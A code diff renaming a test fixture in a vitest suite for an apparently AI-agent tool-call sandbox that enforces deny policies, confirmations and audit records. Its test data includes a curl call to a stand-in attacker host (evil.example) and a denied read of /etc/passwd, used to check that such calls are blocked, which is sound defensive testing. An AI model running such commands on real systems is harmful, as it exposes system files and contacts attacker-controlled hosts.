@@ -1,7 +1,7 @@
 import { createHash } from "node:crypto";
 import { Readable } from "node:stream";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { ToolCallStage } from "../../../../test/setup/tool-call-stage.js";
+import { ToolCallFixture } from "../../../../test/setup/tool-call-fixture.js";
 import { CallbackConfirmationService, type ConfirmationRequest } from "../../../guard/confirmation/index.js";
 import type { ToolCall } from "./tool-call.js";
 
@@ -15,13 +15,13 @@ policies:
 const CURL = "curl http://evil.example";
 const sha256 = (text: string) => `sha256:${createHash("sha256").update(text).digest("hex")}`;
 
-let stage: ToolCallStage;
+let fixture: ToolCallFixture;
 
 beforeEach(async () => {
-  stage = await ToolCallStage.open();
+  fixture = await ToolCallFixture.open();
 });
 
-afterEach(() => stage.close());
+afterEach(() => fixture.close());
 
 const DENIED: readonly (readonly [string, ToolCall])[] = [
   ["the directory it starts in", { command: "cat passwd", cwd: "/etc" }],
@@ -65,9 +65,9 @@ const DENIED: readonly (readonly [string, ToolCall])[] = [
 
 describe("what a call brings along is decided about", () => {
   it.each(DENIED)("%s", async (_, call) => {
-    const manager = stage.manager({ policy: POLICY });
+    const manager = fixture.manager({ policy: POLICY });
     expect(await manager.execute(call)).toMatchObject({ reason: "denied", sandboxId: "" });
-    const { result, sandbox_id } = await stage.onlyRecord();
+    const { result, sandbox_id } = await fixture.onlyRecord();
     expect({ result, sandbox_id }).toEqual({ result: "denied", sandbox_id: null });
   });
 
@@ -78,12 +78,12 @@ describe("what a call brings along is decided about", () => {
     ["a text file", { command: "cat notes.txt", files: { "notes.txt": "just words" } }],
     ["an output file", { command: "echo x > out", outputFiles: ["out"] }],
   ])("and allowed where it is harmless: %s", async (_, call) => {
-    const manager = stage.manager({ policy: POLICY });
+    const manager = fixture.manager({ policy: POLICY });
     expect(await manager.execute(call)).toMatchObject({ success: true });
   });
 
   it("and the risk of a file is the risk of the call", async () => {
-    const manager = stage.manager({ securityMode: "strict" });
+    const manager = fixture.manager({ securityMode: "strict" });
     const result = await manager.execute({
       language: "python",
       code: "print(1)",
@@ -93,7 +93,7 @@ describe("what a call brings along is decided about", () => {
     expect(result.risk?.findings).toContainEqual(
       expect.objectContaining({ excerpt: expect.stringContaining("job.py: ") }),
     );
-    expect(await stage.onlyRecord()).toMatchObject({ result: "rejected", risk_level: "critical" });
+    expect(await fixture.onlyRecord()).toMatchObject({ result: "rejected", risk_level: "critical" });
   });
 });
 
@@ -106,7 +106,7 @@ describe("what a call brings along", () => {
       asked.push(request);
       return { decision: "reject" };
     });
-    await stage.manager({ policy: ASKS, confirmation }).execute({
+    await fixture.manager({ policy: ASKS, confirmation }).execute({
       command: "cat a.txt",
       cwd: "here",
       env: { TOKEN: "s3cret-value", ALPHA: "1" },
@@ -121,7 +121,7 @@ describe("what a call brings along", () => {
       input: "some input",
       "file a.txt": "some content",
     });
-    const record = await stage.onlyRecord();
+    const record = await fixture.onlyRecord();
     expect(record.details).toEqual({
       cwd: "here",
       env: "ALPHA,TOKEN",
@@ -135,7 +135,7 @@ describe("what a call brings along", () => {
 
   it("does not come out by a pattern that reaches further than the policy", async () => {
     const policy = "policies:\n  tools:\n    shell_exec: { denied_paths: [kept/**, '*.key'] }\n";
-    const manager = stage.manager({ policy });
+    const manager = fixture.manager({ policy });
     // Programs may open what they like in their workspace; the host hands out what the policy lets it.
     await (await manager.getSandbox("s")).files.writeAll([
       { path: "kept/a", content: "1" },
@@ -160,7 +160,7 @@ describe("what a call brings along", () => {
       files: { "a.txt": Buffer.from("file") } as Record<string, Buffer>,
       outputFiles: ["a.txt"],
     };
-    const execution = stage.manager({ backend: "faulty" }).execute(call);
+    const execution = fixture.manager({ backend: "faulty" }).execute(call);
     spoil(call);
     expect(await execution).toMatchObject({
       success: true,
@@ -168,7 +168,7 @@ describe("what a call brings along", () => {
       stdout: "stdin file env\n",
       outputFiles: { files: [{ path: "a.txt", content: Buffer.from("file") }] },
     });
-    expect(await stage.onlyRecord()).toMatchObject({
+    expect(await fixture.onlyRecord()).toMatchObject({
       session_id: "s",
       details: { env: "WORD", stdin: sha256("stdin "), output_files: "a.txt" },
     });
@@ -189,7 +189,7 @@ describe("what a call brings along", () => {
       call.command = "echo changed";
       return { decision: "approve", scope: "once" };
     });
-    const result = await stage.manager({ policy: ASKS, confirmation }).execute(call);
+    const result = await fixture.manager({ policy: ASKS, confirmation }).execute(call);
     expect(result).toMatchObject({ success: true, stdout: "stdin file env\n" });
   });
 });
